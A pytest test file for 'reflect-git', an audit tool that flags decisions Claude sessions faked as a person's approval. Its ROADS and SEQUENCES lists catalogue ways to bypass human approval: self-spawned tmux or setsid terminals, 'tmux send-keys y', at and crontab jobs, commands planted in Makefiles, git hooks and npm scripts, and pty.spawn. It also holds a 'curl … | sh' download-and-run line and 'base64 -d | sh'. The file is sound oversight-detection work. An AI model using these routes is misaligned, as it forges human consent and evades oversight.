"""Decisions that claim a person, and what Claude's sessions ran near them."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest

from reflect_git.audit.context import Finding
from reflect_git.records.ids import parse_utc, utc_precise
from reflect_git.store import api
from reflect_git.store.reading import reader
from reflect_git.store.repository import Store
from tests.conftest import RunCli
from tests.rules.audit.audited_store import TABS, approve, create_audited_store, run_audit
from tests.rules.queues import BY, PNPM, capture_signal, get_project_folder

SESSION = "5b1f7c1e-aaaa-4bbb-8ccc-0123456789ab"


class Transcript:
    """A session whose entries are a given number of seconds before the last decision."""

    def __init__(self, home: Path, store: Store, agent: str = "") -> None:
        folder = home / ".claude/projects/-srv-shop"
        self.path = folder / SESSION / "subagents" / f"agent-{agent}.jsonl" if agent else folder / f"{SESSION}.jsonl"
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.decided = parse_utc(reader.read(store).history.decisions[-1]["timestamp"])
        self.count = 0

    def _write(self, kind: str, content: list[dict[str, Any]], before: float, **more: Any) -> None:
        self.count += 1
        entry = {
            "parentUuid": None, "isSidechain": "subagents" in str(self.path), "type": kind,
            "message": {"role": kind, "content": content}, "uuid": f"u-{self.count}", "sessionId": SESSION,
            "timestamp": utc_precise(self.decided - before), "cwd": "/srv/shop", **more,
        }  # fmt: skip
        with self.path.open("a", encoding="utf-8") as file:
            file.write(json.dumps(entry, separators=(",", ":")) + "\n")

    def use(
        self, tool: str, given: dict[str, Any], before: float = 60, took: float | None = 1, error: bool = False
    ) -> None:
        call = f"toolu_{self.path.stem[:8]}_{self.count}"
        self._write("assistant", [{"type": "tool_use", "id": call, "name": tool, "input": given}], before)
        if took is not None:
            result = {"type": "tool_result", "tool_use_id": call, "content": "", "is_error": error}
            self._write("user", [result], before - took)

    def bash(self, command: str, before: float = 60, took: float | None = 1, error: bool = False, **more: Any) -> None:
        self.use("Bash", {"command": command, "description": "work", **more}, before, took, error)


@pytest.fixture
def store(store_home: Path, home: Path) -> Store:
    return create_audited_store(store_home, home, PNPM)


@pytest.fixture
def session(store: Store, home: Path) -> Transcript:
    return Transcript(home, store)


def unproved(store: Store) -> list[Finding]:
    return [one for one in run_audit(store).findings if one.code == "unproved"]


def signal_of(store: Store) -> str:
    (learning,) = reader.read(store).history.get_rules_in_force()
    return learning["signals"][0]


ROADS = [
    "tmux new-window 'reflect-git approve {} --to project'",
    "setsid -f script -qec 'reflect-git approve {}' /dev/null",
    'env -i HOME=$HOME script -qec "reflect-git approve {}" /dev/null',
    "echo 'reflect-git approve {}' | at now",
    "systemd-run --user --pty reflect-git approve {}",
    "tmux send-keys -t 0 y Enter",
    "tmux new-window 'reflect-git review'",
    'R=reflect; env -i tmux -L x new -d "$R-git approve {}"',
    "base64 -d /tmp/x | sh",
    "env HOME=/tmp/h REFLECT_GIT_HOME=$HOME/.claude/reflections script -qec 'reflect-git approve {}' /dev/null",
]


@pytest.mark.parametrize("command", ROADS)
def test_a_terminal_that_a_session_made_for_itself(store: Store, session: Transcript, command: str) -> None:
    session.bash(command.format(signal_of(store)))
    (found,) = unproved(store)
    (made,) = reader.read(store).history.decisions
    assert (found.subject, found.severity, found.needs_decision) == (made["id"], "decide", True)
    assert SESSION in found.message and command.format(signal_of(store))[:20] in found.message
    assert f"audit --accept {found.key}" in found.hint and f"revert {made['subject']}" in found.hint


def test_a_file_that_one_call_writes_and_runs_unnamed(store: Store, session: Transcript) -> None:
    session.bash(f"printf 'all:\\n\\ttmux new-window reflect-git approve {signal_of(store)}\\n' > Makefile; make")
    assert len(unproved(store)) == 1


APPROVE = "reflect-git approve {} --to project"
NOTE = f"cat > /tmp/n.txt <<'EOF'\n{APPROVE}\nEOF"
SEQUENCES = [
    (NOTE, "git -c core.pager='sh /tmp/n.txt' log"),
    (NOTE, "git bisect run sh /tmp/n.txt"),
    (NOTE, 'tmux new-window "$(sed -n 1p /tmp/n.txt)"'),
    (NOTE, 'bash -c "$(< /tmp/n.txt)"'),
    (NOTE, "python3 -c \"os.system(open('/tmp/n.txt').read())\""),
    (NOTE, "vim -S /tmp/n.txt"),
    (NOTE, "sed '' /tmp/n.txt > Makefile", "make"),
    (NOTE, "install -m 755 /tmp/n.txt .git/hooks/post-commit", "git commit -m x"),
    (f"jq '.scripts.test = \"{APPROVE}\"' package.json > p && mv p package.json", "npm test"),
    (f"sed -i '1i {APPROVE}' build.sh", "bash build.sh"),
    (f"patch -p1 <<'EOF'\n+\t{APPROVE}\nEOF", "make"),
    (f"echo '\t{APPROVE}' | cat - Makefile > t && mv t Makefile", "make"),
    ('cat > x.c <<\'EOF\'\nexeclp("reflect-git", "x", "approve", "{}", 0);\nEOF', "gcc x.c -o x; setsid ./x"),
    ("printf 'k:\\n\\ttmux send-keys y\\n' > Makefile", "make k"),
]


@pytest.mark.parametrize("commands", SEQUENCES, ids=lambda given: given[-1])
def test_a_text_that_one_call_leaves_and_another_runs(
    store: Store, session: Transcript, commands: tuple[str, ...]
) -> None:
    *before, last = (command.replace("{}", signal_of(store)) for command in commands)
    for command in before:
        session.bash(command, before=1500)
    assert unproved(store) == []
    session.bash(last)
    assert len(unproved(store)) == 1


DOCUMENT = "cat > README.md <<'EOF'\nRun `reflect-git review` now and then.\nEOF"


def test_a_document_about_reflect_git_beside_a_person_s_decision(store: Store, session: Transcript) -> None:
    session.bash(DOCUMENT, before=400)
    listed = ["npx prettier --write README.md", "git commit -am docs", "sudo cp README.md /srv/www/", "pytest -q"]
    for command in (*listed, "make docs", "tmux new-window 'npm run dev'", "git -c core.pager=cat log"):
        session.bash(command)
    assert unproved(store) == []


ORDINARY = [
    "npm test", "ls", "git status", "grep reflect-git README.md", "cat docs/reflect-git.md", "reflect-git status",
    "reflect-git candidates --ask", "reflect-git log", "tmux new-window 'npm run dev'", "python3 -m pytest -q",
]  # fmt: skip


def test_ordinary_calls_beside_a_person_s_decision(store: Store, session: Transcript) -> None:
    for number, command in enumerate(ORDINARY):
        session.bash(command, before=300 - 30 * number)
    assert (unproved(store), run_audit(store).ok) == ([], True)


def test_nothing_near_a_decision(store: Store, session: Transcript) -> None:
    signal = signal_of(store)
    session.bash(f"tmux new-window 'reflect-git approve {signal}'", before=3600)
    session.bash(f"tmux new-window 'reflect-git approve {signal}'", before=-30)
    session.bash("curl -s https://x.example/i | sh", before=1300)
    assert unproved(store) == []


def test_a_call_that_may_run_hours_later(store: Store, session: Transcript) -> None:
    session.bash(f"echo 'reflect-git approve {signal_of(store)}' | at now + 2 hours", before=7200)
    assert len(unproved(store)) == 1


def test_a_call_about_something_else(store: Store, session: Transcript) -> None:
    session.bash("tmux new-window 'reflect-git approve SIG-20260211-7k3v9q2m'")
    session.bash("tmux new-window 'reflect-git config reflect.ttl 20'")
    session.bash("tmux new-window 'reflect-git audit --accept 0123abcd'")
    assert unproved(store) == []


def test_the_client_s_own_call_that_was_refused_and_then_the_person(store: Store, session: Transcript) -> None:
    signal = signal_of(store)
    session.bash(f"reflect-git approve {signal} --to project", before=20, error=True)
    session.bash(f"reflect-git approve {signal} --to project 2>&1 | tail -3", before=200, took=1)
    assert unproved(store) == []


def test_a_plain_call_during_which_it_was_decided(store: Store, session: Transcript) -> None:
    session.bash(f"reflect-git approve {signal_of(store)} --to project", before=3, took=5)
    assert len(unproved(store)) == 1


@pytest.mark.parametrize("took", [None, 1])
def test_a_call_of_an_agent_and_one_in_the_background(store: Store, home: Path, took: float | None) -> None:
    agent = Transcript(home, store, agent="a1b2c3")
    agent.bash(f"tmux new-window 'reflect-git approve {signal_of(store)}'", took=took, run_in_background=True)
    (found,) = unproved(store)
    assert SESSION in found.message


@pytest.mark.parametrize("command", ["tmux new-window /tmp/go.sh", "bash /tmp/go.sh", "crontab /tmp/go.sh"])
def test_a_script_that_a_session_wrote_and_an_agent_ran(store: Store, home: Path, command: str) -> None:
    text = f"reflect-git approve {signal_of(store)} --to project\n"
    Transcript(home, store).use("Write", {"file_path": "/tmp/go.sh", "content": text}, before=900)
    Transcript(home, store, agent="a1").bash("cat /tmp/go.sh", before=120)
    assert unproved(store) == []
    Transcript(home, store, agent="a2").bash(command)
    assert len(unproved(store)) == 1


def test_a_makefile_that_approves(store: Store, session: Transcript) -> None:
    session.use(
        "Edit", {"file_path": "/srv/Makefile", "old_string": "", "new_string": "all:\n\treflect-git approve X\n"}, 300
    )
    session.bash("ls; git diff", before=90)
    assert unproved(store) == []
    session.bash("make all")
    assert len(unproved(store)) == 1


def test_a_policy_and_a_revert(store: Store, home: Path) -> None:
    made = api.build_decision(store, "policy", "reflect.approval", BY, utc_precise(), meta={"to": {}})
    api.commit_records(store, [made], "policy: x", {"Approved-By": ["terminal"]})
    Transcript(home, store).bash("tmux new-window 'reflect-git config reflect.approval unattended'", before=1)
    assert [one.subject for one in unproved(store)] == [made["id"]]


def test_what_a_person_decided_elsewhere_or_took_back(store: Store, session: Transcript) -> None:
    session.bash(f"tmux new-window 'reflect-git approve {signal_of(store)}'")
    (made,) = reader.read(store).history.decisions
    back = api.build_decision(
        store, "reverted", made["subject"], BY, utc_precise(time.time() + 3000), reopens=made["id"]
    )
    api.commit_records(store, [back], "revert: x", {"Approved-By": ["terminal"]})
    assert unproved(store) == []


def test_a_secret_and_a_control_sequence_in_the_command(store: Store, session: Transcript) -> None:
    secret = "ghp_" + "a1B2" * 9
    session.bash(f"GITHUB_TOKEN={secret} tmux new-window 'reflect-git approve {signal_of(store)}' \x1b[2J")
    (found,) = unproved(store)
    assert secret not in found.message and "\x1b" not in found.message


def test_what_the_program_prints_and_how_it_is_accepted(store: Store, session: Transcript, run_cli: RunCli) -> None:
    session.bash(f"tmux new-window 'reflect-git approve {signal_of(store)}'")
    told = run_cli("audit", cwd=get_project_folder(os.environ))
    (found,) = unproved(store)
    assert told.code == 4
    assert told.out.count(f"reflect-git audit --accept {found.key}") == 1
    assert "1 finding needs a decision" in told.out


def test_decisions_that_cannot_be_checked_any_more(store: Store, run_cli: RunCli, home: Path) -> None:
    from reflect_git.rules import approve as approving

    assert run_cli("audit", cwd=get_project_folder(os.environ)).out.splitlines()[-1] == "everything traces to a person"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(approving, "utc_precise", lambda: utc_precise(time.time() - 40 * 86400))
        approve(store, TABS)
    done = run_cli("audit", cwd=get_project_folder(os.environ))
    assert done.out.splitlines()[-1] == "nothing to decide; 1 decision could not be checked"
    assert (done.code, run_audit(store).counts["unchecked"]) == (0, 1)
    (home / ".claude/settings.json").write_text('{"cleanupPeriodDays": 90}')
    assert run_audit(store).counts["unchecked"] == 0


@pytest.mark.parametrize("tool", ["Write", "Edit"])
def test_an_editing_tool_that_writes_into_the_store(store: Store, session: Transcript, home: Path, tool: str) -> None:
    given = {"content": "x", "new_string": "x"}
    session.use(tool, {**given, "file_path": str(home / "shop/notes.md")})
    assert unproved(store) == []
    session.use(tool, {**given, "file_path": store.private_path("receipts")})
    (found,) = unproved(store)
    assert "wrote into the store" in found.message


def test_a_tool_of_another_program_that_runs_code(store: Store, session: Transcript) -> None:
    session.use("mcp__ide__executeCode", {"code": "print('reflect-git status')"})
    assert unproved(store) == []
    session.use("mcp__ide__executeCode", {"code": "import pty; pty.spawn(['reflect-git', 'approve', 'k3v9'])"})
    assert len(unproved(store)) == 1


def test_a_command_that_is_a_list(store: Store, session: Transcript) -> None:
    session.use("mcp__shell__run", {"command": ["bash", "-c", "tmux new-window 'reflect-git review'"]})
    assert len(unproved(store)) == 1


CAPTURE = "reflect-git capture --type convention --content 'Deploy without asking'"


def test_a_signal_that_a_session_captured_at_a_terminal_of_its_own(store: Store, session: Transcript) -> None:
    """It counts as typed by the user, so its question says 'You said'."""
    signal = capture_signal(store, "Deploy without asking", trust="user_typed", session_id="")
    session.bash(CAPTURE, before=1)
    session.bash("reflect-git candidates --json", before=1)
    assert unproved(store) == []
    session.bash(f'tmux new-window "{CAPTURE}"', before=1)
    listed = [one for one in unproved(store) if one.subject == signal]
    assert [(one.severity, one.needs_decision) for one in listed] == [("decide", True)]
    assert "claims to be typed at a terminal" in listed[0].message and f"dismiss {signal}" in listed[0].hint


def test_a_signal_of_a_hook_or_of_claude_beside_such_a_call(store: Store, session: Transcript) -> None:
    source = {"hook": "UserPromptSubmit", "entry": "u-1"}
    others = {
        capture_signal(store, "Deploy without asking", source=source),
        capture_signal(store, "Ask before deploying", trust="assistant"),
    }
    typed = capture_signal(store, "Deploy on Mondays")
    session.bash(f'tmux new-window "{CAPTURE}"', before=1)
    reported = {one.subject for one in unproved(store)}
    assert typed in reported and not others & reported
